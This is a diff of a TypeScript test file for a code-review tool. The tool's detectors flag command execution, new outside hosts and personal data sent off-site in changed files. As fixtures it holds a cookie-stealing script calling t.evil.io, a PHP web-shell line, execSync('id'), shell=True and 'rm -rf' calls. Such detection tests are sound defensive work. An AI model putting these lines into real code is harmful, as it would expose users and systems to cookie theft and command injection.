@@ -1,4 +1,5 @@
 import { analyzeFile } from '../../activities/change/analyze-file';
+import { contextDir, rootedExcludes } from '../../activities/change/build-context';
 import { keyPaths } from '../../activities/change/key-paths';
 import { parseBatch } from '../../activities/shared/git';
 import { parsePatch, unquote, type FilePatch } from '../../activities/change/patch';
@@ -219,9 +220,129 @@ describe('detectors (analyzeFile on a patch and both versions)', () => {
     expect(moved.file.findings).toEqual([]);
   });
 
-  test('prose, styles and binaries are not read', () => {
-    const md = found('docs/security.md', [], ['Rotate the api_key and disable csrf in dev: https://evil.example.net']);
-    expect(md.file).toMatchObject({ language: 'markdown', findings: [], symbolMethod: 'none' });
-    expect(md.newHosts).toEqual([]);
+  test('outside every build context prose, styles and markup are not read', () => {
+    const line = ['Rotate the api_key and disable csrf in dev: https://evil.example.net', "<script>fetch('https://t.evil.io/c')</script>"];
+    const texts = { oldText: '', newText: line.join('\n') };
+    for (const path of ['docs/security.md', 'src/styles/app.css', 'views/login.ejs']) {
+      const r = analyzeFile({ entry: entry(path), patch: patchOf([], line), ...texts, buildContext: 'outside' });
+      expect(r.file).toMatchObject({ findings: [], symbolMethod: 'none', buildContext: 'outside' });
+      expect(r.file.codeEvidence).toBeUndefined();
+      expect(r.newHosts).toEqual([]);
+    }
+  });
+
+  test('inside a build context prose is judged by its embedded code only; fenced samples and links are not code', () => {
+    const lines = [
+      'Rotate the api_key and disable csrf in dev: https://docs.partner.io/keys',
+      '```js',
+      "fetch('https://api.sample.io/x', { body: JSON.stringify({ email }) })",
+      '```',
+      '<a href="https://status.partner.io">status</a>',
+      "<script>fetch('https://t.evil.io/c?d=' + document.cookie)</script>",
+    ];
+    const md = analyzeFile({ entry: entry('docs/guide.md', 'added'), patch: patchOf([], lines), newText: lines.join('\n') });
+    expect(md.file.codeEvidence).toBe("code embedded in prose: added line 6: <script>fetch('https://t.evil.io/c?d=' + document.cookie)</script>");
+    expect(md.file.findings.map((f) => f.line)).toEqual([6]);
+    expect(md.newHosts.map((h) => h.host)).toEqual(['t.evil.io']);
+    const plain = analyzeFile({ entry: entry('README.md', 'added'), patch: patchOf([], lines.slice(0, 5)), newText: lines.slice(0, 5).join('\n') });
+    expect(plain.file).toMatchObject({ findings: [], buildContext: 'inside' });
+    expect(plain.file.codeEvidence).toBeUndefined();
+    expect(plain.newHosts).toEqual([]);
+  });
+
+  test('inside a build context templates are code and read whole; styles are read too', () => {
+    const ejs = found('views/login.ejs', [], ["<% const who = require('child_process').execSync('id').toString() %>"], {}, 'added');
+    expect(ejs.file.codeEvidence).toBe('HTML template: rendered by the service, its tags run code');
+    expect(kindsOf(ejs)).toEqual(['command-execution']);
+    const css = found('src/styles/app.css', [], ["@import url('https://fonts.cdn-partner.net/inter.css');"]);
+    expect(css.newHosts.map((h) => h.host)).toEqual(['fonts.cdn-partner.net']);
+  });
+
+  test('command execution: child_process, eval, subprocess, os/exec, shell calls; not RegExp.exec or redis.eval', () => {
+    for (const [path, line] of [
+      ['src/a.ts', "import { execFile } from 'node:child_process';"],
+      ['src/a.js', 'const out = execSync(`convert ${file}`);'],
+      ['src/a.js', 'const f = new Function("return " + expr);'],
+      ['src/a.js', 'return eval(body);'],
+      ['app/run.py', 'subprocess.run(cmd, shell=True)'],
+      ['app/run.py', 'os.system("rm -rf " + path)'],
+      ['cmd/main.go', 'out, _ := exec.Command("sh", "-c", input).Output()'],
+      ['web/index.php', 'echo shell_exec($_GET["cmd"]);'],
+    ]) {
+      const r = found(path!, [], [line!], { oldText: '' });
+      expect({ line, kinds: kindsOf(r) }).toEqual({ line, kinds: expect.arrayContaining(['command-execution']) });
+    }
+    for (const line of ['const m = /x/.exec(text);', "await redis.eval(script, 0);", '// execSync is not used here']) {
+      expect(kindsOf(found('src/b.ts', [], [line], { oldText: '' }))).not.toContain('command-execution');
+    }
+  });
+
+  test('personal data sent to an outside host is an external integration, known host or new', () => {
+    const lines = [
+      'export async function subscribe(user: User) {',
+      "  await fetch('https://api.mailfunnel.io/v2/contacts', {",
+      "    method: 'POST',",
+      '    body: JSON.stringify({ email: user.email, name: user.name, address: user.address }),',
+      '  });',
+      '}',
+    ];
+    const r = found('src/newsletter.ts', [], lines, { oldText: '' }, 'added');
+    expect(r.file.findings.filter((f) => f.kind === 'external-integration').map((f) => f.detail)).toEqual([
+      "personal data (email, name, address) sent to outside host api.mailfunnel.io: added line 2 in subscribe: await fetch('https://api.mailfunnel.io/v2/contacts', {",
+    ]);
+    // The host in a constant of the same change, a templated subdomain, card fields
+    const constant = found('src/track.js', [], ["const COLLECTOR = 'https://collect.adtrack.net/e';", 'navigator.sendBeacon(COLLECTOR, JSON.stringify({ phone, dob }));'], { oldText: '' });
+    expect(constant.file.findings.map((f) => f.detail)).toContainEqual(expect.stringContaining('personal data (phone, birth date) sent to outside host collect.adtrack.net'));
+    const templated = found('src/eu.ts', [], ['await axios.post(`https://${region}.cardvault.io/v1`, { cardNumber, cvv });'], { oldText: '' });
+    expect(templated.file.findings.map((f) => f.detail)).toContainEqual(expect.stringContaining('personal data (payment card or bank account) sent to outside host cardvault.io'));
+    // No personal data, a bare `name`, or no readable outside destination: no such finding
+    const none = (added: string[]) => found('src/x.ts', [], added, { oldText: '' }).file.findings.filter((f) => f.detail.startsWith('personal data'));
+    expect(none(["await fetch('https://api.partner.io/v1/orders', { body: JSON.stringify({ orderId, total }) });"])).toEqual([]);
+    expect(none(["await fetch('https://api.partner.io/v1/tags', { body: JSON.stringify({ name: tag.name }) });"])).toEqual([]);
+    expect(none(["await fetch('/api/profile', { body: JSON.stringify({ email, address }) });"])).toEqual([]);
+  });
+
+  test('templated hosts: the fixed part after the template is the host; links are not integrations', () => {
+    const hosts = (line: string) => found('src/x.ts', [], [line]).newHosts.map((h) => h.host);
+    expect(hosts('fetch(`https://${tenant}.collect.io/v1`)')).toEqual(['collect.io']);
+    expect(hosts("fetch(`https://api.partner.io${path}`)")).toEqual(['api.partner.io']);
+    expect(hosts('fetch(`https://${host}/x`)')).toEqual([]);
+    expect(hosts("const html = '<a class=\"x\" href=\"https://twitter.com/shop\">us</a>';")).toEqual([]);
+  });
+
+  test('a file renamed into a build context is judged whole; renamed out, as removed', () => {
+    const body = "module.exports = () => require('child_process').execSync('id');\n";
+    const moved = (buildContext: 'entered' | 'left' | 'inside') => analyzeFile({
+      entry: { ...entry('src/plugins/plugin.js', 'renamed'), previousPath: 'docs/examples/plugin.js', additions: 0, deletions: 0, oldId: OLD, newId: OLD },
+      patch: undefined, oldText: body, newText: body, buildContext,
+    });
+    const entered = moved('entered');
+    expect(kindsOf(entered)).toEqual(['command-execution']);
+    expect(entered.file.notes).toContain('renamed into a build context from docs/examples/plugin.js: judged whole, as if added');
+    expect(entered.file.status).toBe('renamed');
+    expect(moved('left').file.findings).toEqual([]); // removed lines: no new exec call, but read
+    expect(moved('left').file.notes).toContain('renamed out of every build context from docs/examples/plugin.js: judged as removed');
+    expect(moved('inside').file.findings).toEqual([]);
+  });
+});
+
+describe('build contexts', () => {
+  test('the context directory comes from airlock.yaml, leniently', () => {
+    expect(contextDir('services/web', 'build:\n  context: .\n')).toBe('services/web');
+    expect(contextDir('services/web', 'build:\n  context: app/\n')).toBe('services/web/app');
+    expect(contextDir('.', 'service: x\n')).toBe('');
+    expect(contextDir('services/web', 'build: [unclosed')).toBe('services/web');
+    expect(contextDir('services/web', 'build:\n  context: ../../..\n')).toBe(''); // leaves the repository: all of it
+    expect(contextDir('services/web', 'build:\n  context: /abs\n')).toBe('');
+  });
+
+  test(".dockerignore patterns become the build's own pathspecs, from the repository root", () => {
+    expect(rootedExcludes('services/web', '# comment\nnode_modules\n/docs/\n!keep.md\n*.md\n')).toEqual([
+      ':(top,exclude,glob)services/web/node_modules', ':(top,exclude,glob)services/web/node_modules/**',
+      ':(top,exclude,glob)services/web/docs', ':(top,exclude,glob)services/web/docs/**',
+      ':(top,exclude,glob)services/web/*.md', ':(top,exclude,glob)services/web/*.md/**',
+    ]);
+    expect(rootedExcludes('', 'tmp\n')).toEqual([':(top,exclude,glob)tmp', ':(top,exclude,glob)tmp/**']);
+    expect(rootedExcludes('we[ird]', 'x\n')[0]).toBe(':(top,exclude,glob)we\\[ird\\]/x');
   });
 });
